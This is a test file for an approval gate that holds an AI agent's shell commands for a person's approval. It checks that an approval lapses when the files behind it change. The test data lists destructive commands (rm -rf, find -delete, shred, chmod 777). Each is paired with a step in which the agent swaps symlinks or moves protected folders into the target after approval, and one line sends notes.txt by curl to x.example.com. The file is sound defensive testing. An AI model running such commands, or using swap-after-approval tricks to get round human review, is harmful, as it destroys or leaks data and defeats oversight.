import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { virtualPlace } from '../../src/ground/model/place.ts'
import { boundFiles } from '../../src/gate/core/binding/bound-files.ts'
import { seeThing } from '../../src/gate/core/binding/see-thing.ts'
import { partlyListed, thingKey, thingText } from '../../src/people/review/seen-thing.ts'
import { openPeopleGate, vote } from './open-people-gate.ts'

/** A home with a repository, something that may go, and something that nobody is asked about. */
function makeHome(): string {
  const home = realpathSync(mkdtempSync(join(tmpdir(), 'countersign-things-')))
  for (const folder of [
    'shop/.git',
    'shop/g',
    'shop/dist',
    'important',
    'precious/sub',
    'work2/real/deep',
    'away',
    'par/real',
    'empty',
  ])
    mkdirSync(join(home, folder), { recursive: true })
  for (const file of [
    'shop/notes.txt',
    'important/i.txt',
    'precious/a.txt',
    'precious/sub/b.txt',
    'work2/a.txt',
    'work2/real/b.txt',
    'work2/real/deep/c.txt',
    'work2/run.log',
    'par/real/p.txt',
    'shop/dist/x.js',
  ])
    writeFileSync(join(home, file), `${file}\n`)
  writeFileSync(join(home, 'shop/g/one'), '#!/bin/sh\necho 1\n', { mode: 0o755 })
  writeFileSync(join(home, 'shop/int'), '#!/bin/sh\nexit 0\n', { mode: 0o755 })
  writeFileSync(join(home, 'shop/tool'), `#!${home}/shop/int\nx\n`, { mode: 0o755 })
  runIn(home, 'ln -s ../important lk; ln -s lk lk1; ln -s ../work2/a.txt one; tar cf a.tar notes.txt')
  return home
}

function runIn(home: string, command: string): void {
  execFileSync('bash', ['-c', command], {
    cwd: join(home, 'shop'),
    env: { ...process.env, HOME: home },
    stdio: 'ignore',
  })
}

/** Has a person approve a command, does something in between, and asks again; an allowed command is then really run. */
async function askedAfter(command: string, between: string) {
  const home = makeHome()
  const cwd = join(home, 'shop')
  const place = { ...virtualPlace, cwd, workspace: cwd, home, temp: [], observed: true }
  const people = openPeopleGate({ more: { placeOf: () => place } })
  const isAsked = (await people.shell(command, { cwd })).effect === 'queue'
  const line = isAsked ? command : `${command}; curl -d @notes.txt https://x.example.com`
  const { effect, reviewId = '' } = await people.shell(line, { cwd })
  expect(effect).toBe('queue')
  await vote(people, reviewId, true)
  runIn(home, between)
  const again = await people.shell(line, { cwd })
  rmSync(home, { recursive: true })
  return { effect: again.effect, kind: again.reason.kind, text: again.reason.text.replaceAll(home, '~') }
}

const turned = 'ln -sfn ../precious lk'

/** What a person is asked about, and what an agent does before it asks again. */
const attempts: readonly (readonly [command: string, between: string])[] = [
  ['find lk/ -delete', turned],
  ['find lk1/ -delete', turned],
  ['cd -P lk && find . -delete', turned],
  ['mv lk/* ../away/', turned],
  ['chmod -R 777 lk/', turned],
  ['chmod 777 lk', turned],
  ['chown -R nobody lk/', turned],
  ['rm -rf lk/*', turned],
  ['cp notes.txt lk/a.txt', turned],
  ['tee lk/a.txt < notes.txt', turned],
  ['dd if=notes.txt of=lk/a.txt', turned],
  ['install notes.txt lk/a.txt', turned],
  ['tar xf a.tar -C lk', turned],
  ['curl -o lk/a.txt https://x.example.com/a', turned],
  ['echo x > one', 'ln -sfn ../precious/a.txt one'],
  ['sed -i s/a/b/ one', 'ln -sfn ../precious/a.txt one'],
  ['truncate -s0 ../work2/a.txt', 'ln -f ../precious/a.txt ../work2/a.txt'],
  ['shred -u ../work2/a.txt', 'mv ../precious/a.txt ../work2/a.txt'],
  ['rm ../work2/a.txt', 'mv ../precious/a.txt ../work2/a.txt'],
  ['mv notes.txt ../work2/a.txt', 'mv ../precious/a.txt ../work2/a.txt'],
  ['cp notes.txt ../work2/', 'mv ../precious/a.txt ../work2/notes.txt'],
  ['cp notes.txt ../work2/new', 'ln -s ../precious/a.txt ../work2/new'],
  ['rm -rf ~/work2/*', 'mv ../precious ../work2/'],
  ['rm -rf ../work2', 'mv ../precious ../work2/'],
  ['rm -rf ../work2', 'mv ../precious/a.txt ../work2/real/deep/'],
  ['rm -rf ../work2', 'mv ../precious/a.txt ../work2/real/deep/c.txt'],
  ['rm -rf ../work2', 'mv ../precious "../work2/real/"$(printf "\\377")'],
  ['rm -rf ../work2/real', 'mv ../work2/real ../r; mv ../precious ../work2/real'],
  ['rm -rf ../work2/{real,more}', 'mv ../precious ../work2/more'],
  ['rm -rf ../work2/.[!.]*', 'mv ../precious ../work2/.x'],
  ['rm -rf ../*/real', 'mv ../precious ../empty/real'],
  ['rm -rf ../w*/re?l', 'mv ../precious/a.txt ../work2/real/deep/d.txt'],
  ["find ../work2 -name '*.txt' -delete", 'mv ../precious/a.txt ../work2/real/deep/d.txt'],
  ['find ../work2 -type f -exec rm {} +', 'mv ../precious/a.txt ../work2/real/deep/d'],
  ['rm -rf ../par/real', 'mv ../par ../par1; mkdir ../q; mv ../precious ../q/real; ln -s q ../par'],
  [`node -e "require('fs').rmSync('../work2',{recursive:true})"`, 'mv ../precious ../work2/real/'],
  [`python3 -c "import shutil; shutil.rmtree('../work2')"`, 'mv ../precious ../work2/real/'],
  ['chmod -R 777 ../work2', 'mv ../precious ../work2/real/'],
  ['run-parts g', 'cp notes.txt g/two'],
  ['./tool', 'cp g/one int'],
]

test.each(attempts)('an approval of `%s` is not for what is there after `%s`', async (command, between) => {
  const { effect, kind } = await askedAfter(command, between)
  expect(`${effect} ${kind}`).toBe('queue changed')
})

test.each(attempts.map(([command]) => command).filter((one, i, all) => all.indexOf(one) === i))(
  'an approval of `%s` holds where nothing has changed',
  async command => {
    const { effect, kind, text } = await askedAfter(command, 'echo more >> ../precious/a.txt; echo x > other')
    expect([effect, kind, effect === 'allow' ? '' : text]).toEqual(['allow', 'person', ''])
  },
)

test.each([
  ['rm -rf ../work2', 'echo more >> ../work2/run.log; echo other > ../work2/a.txt'],
  ['rm -rf .', 'rm -rf dist; mkdir dist; echo 1 > dist/y.js; echo 2 > dist/z.js'],
  ['chmod -R 700 .', 'rm -rf dist/*; mkdir dist/a; echo 1 > dist/other.js'],
  ['rm -rf dist', 'rm -rf dist; mkdir dist; echo 1 > dist/y.js'],
  ['echo x >> ../work2/run.log', 'echo y >> ../work2/run.log'],
])('an approval of `%s` holds after `%s`, as a person would have it', async (command, between) => {
  const { effect, text } = await askedAfter(command, between)
  expect(effect === 'allow' ? '' : text).toBe('')
})

test.each([
  [
    'rm -rf ../work2',
    'touch ../work2/1 ../work2/2 ../work2/real/3',
    '~/work2 has 3 more names than were shown',
  ],
  ['rm -rf ../work2', 'rm ../work2/a.txt', '~/work2 has 1 fewer name than were shown'],
  ['rm -rf ../work2', 'mv ../precious/a.txt ../work2/a.txt', '~/work2 has other things of the same number'],
  ['find lk/ -delete', turned, '~/shop/lk leads to ~/precious now, and led to ~/important'],
  ['cp notes.txt ../work2/new', 'touch ../work2/new', '~/work2/new was not there, and is now a file'],
  [
    'rm ../work2/a.txt',
    'rm ../work2/a.txt; mkdir ../work2/a.txt',
    '~/work2/a.txt was a file, and is now a folder',
  ],
  [
    'rm ../work2/a.txt',
    'mv ../precious/a.txt ../work2/a.txt',
    '~/work2/a.txt is another file of the same name',
  ],
  ['rm -rf ../work2/*', 'mv ../precious ../work2/', '~/work2/* has 4 more names than were shown'],
])('after `%s` and `%s` the agent and the person are told: %s', async (command, between, clause) => {
  expect((await askedAfter(command, between)).text).toContain(`${clause} since it was approved`)
})

const whole = { isFollowed: false, isWhole: true, isPlace: false, skipsGenerated: false }

test('so many names are listed, and an approval says that there are more', () => {
  const home = makeHome()
  const look = { ...whole, path: join(home, 'work2') }
  const [all, some] = [{ names: 100 }, { names: 3 }]
  expect([seeThing(look, all), seeThing(look, some)]).toMatchObject([
    { names: 6 },
    { names: 3, isPart: true },
  ])
  expect([all.names, some.names]).toEqual([94, -1])
  expect(partlyListed({ [thingKey(look)]: thingText(seeThing(look, { names: 3 })) })).toEqual([look.path])
  rmSync(home, { recursive: true })
})

test('what can’t be looked at is no error, and is known by that', () => {
  const loop = mkdtempSync(join(tmpdir(), 'countersign-loop-'))
  execFileSync('ln', ['-s', 'b', join(loop, 'a')])
  execFileSync('ln', ['-s', 'a', join(loop, 'b')])
  const looks = [join(loop, 'a/x'), `${loop}/${'x'.repeat(300)}`].map(path => ({ ...whole, path }))
  for (const look of looks) expect(seeThing(look, { names: 9 }).kind).toBe('unseen')
  // A file of this very name is another thing than a folder with names in it.
  writeFileSync(join(loop, '=w'), 'x')
  expect(boundFiles([join(loop, '=w')])[join(loop, '=w')]).toMatch(/^[\da-f]{64}$/)
  expect(readFileSync(join(loop, '=w'), 'utf8')).toBe('x')
  rmSync(loop, { recursive: true })
})
